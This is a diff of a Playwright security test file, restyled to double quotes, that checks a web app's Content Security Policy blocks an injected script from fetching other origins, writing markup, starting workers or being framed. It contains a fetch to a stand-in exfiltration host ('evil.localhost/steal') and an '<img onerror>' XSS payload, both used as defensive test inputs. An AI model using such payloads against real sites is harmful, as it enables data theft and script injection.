@@ -1,80 +1,80 @@
-import { expect, test } from './fixtures.ts';
+import { expect, test } from "./fixtures.ts";
 
-test.describe('a script that got into the page', () => {
+test.describe("a script that got into the page", () => {
   test.use({ expectedConsole: [/Content Security Policy/, /TrustedHTML/, /requires 'Trusted/] });
 
-  test('cannot reach Zendesk, nor any other origin', async ({ page, servers, account }) => {
-    await page.goto('/');
+  test("cannot reach Zendesk, nor any other origin", async ({ page, servers, account }) => {
+    await page.goto("/");
     for (const url of [
       `${servers.zendesk.url(account)}/api/v2/users/me.json`,
-      'http://evil.localhost:9/steal',
+      "http://evil.localhost:9/steal",
     ]) {
       const outcome = await page.evaluate(
         (target) =>
           fetch(target).then(
-            () => 'reached',
-            () => 'refused',
+            () => "reached",
+            () => "refused",
           ),
         url,
       );
-      expect(outcome).toBe('refused');
+      expect(outcome).toBe("refused");
     }
     expect(servers.zendesk.account(account).requests()).toEqual([]);
   });
 
-  test('cannot write markup', async ({ page }) => {
-    await page.goto('/');
+  test("cannot write markup", async ({ page }) => {
+    await page.goto("/");
     const outcome = await page.evaluate(() => {
       try {
-        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>');
-        return 'written';
+        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>");
+        return "written";
       } catch (error) {
-        return error instanceof TypeError ? 'refused' : 'other';
+        return error instanceof TypeError ? "refused" : "other";
       }
     });
-    expect(outcome).toBe('refused');
+    expect(outcome).toBe("refused");
   });
 
-  test('cannot start a worker of its own choosing', async ({ page }) => {
-    await page.goto('/');
+  test("cannot start a worker of its own choosing", async ({ page }) => {
+    await page.goto("/");
     const outcome = await page.evaluate(() => {
       try {
         // oxlint-disable-next-line no-new
-        new SharedWorker('/assets/any.js');
-        return 'started';
+        new SharedWorker("/assets/any.js");
+        return "started";
       } catch (error) {
-        return error instanceof TypeError ? 'refused' : 'other';
+        return error instanceof TypeError ? "refused" : "other";
       }
     });
-    expect(outcome).toBe('refused');
+    expect(outcome).toBe("refused");
   });
 });
 
-test('nobody can show the app inside a page of theirs', async ({ page, servers, serve }) => {
+test("nobody can show the app inside a page of theirs", async ({ page, servers, serve }) => {
   const other = await serve({});
   const document = await page.request.get(`${servers.host.url}/`);
-  expect(document.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+  expect(document.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
   await page.goto(`${other.url}/`);
-  expect(document.headers()['x-frame-options']).toBe('DENY');
+  expect(document.headers()["x-frame-options"]).toBe("DENY");
 });
 
-test('the worker’s script brings a policy that names the accounts and nothing else', async ({
+test("the worker’s script brings a policy that names the accounts and nothing else", async ({
   page,
   servers,
 }) => {
   const script = page.waitForRequest(/session-worker-[\w-]+\.js$/).catch(() => undefined);
-  await page.goto('/');
+  await page.goto("/");
   const url =
     (await script)?.url() ??
     (await page.evaluate(
       () =>
         performance
-          .getEntriesByType('resource')
+          .getEntriesByType("resource")
           .map((entry) => entry.name)
-          .find((name) => name.includes('session-worker')) ?? '',
+          .find((name) => name.includes("session-worker")) ?? "",
     ));
   const answer = await page.request.get(url);
-  expect(answer.headers()['content-security-policy']).toContain(
+  expect(answer.headers()["content-security-policy"]).toContain(
     `connect-src 'self' http://*.localhost:${servers.zendesk.port};`,
   );
 });
